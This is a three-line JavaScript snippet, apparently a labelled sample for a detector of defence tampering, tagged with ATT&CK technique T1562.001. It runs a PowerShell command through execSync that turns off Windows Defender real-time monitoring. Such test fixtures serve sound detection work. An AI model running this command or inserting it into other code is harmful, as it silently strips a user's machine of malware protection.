// expect: defence-tampering | source: T1562.001
const { execSync } = require("child_process");
execSync('powershell -Command "Set-MpPreference -DisableRealtimeMonitoring $true"');
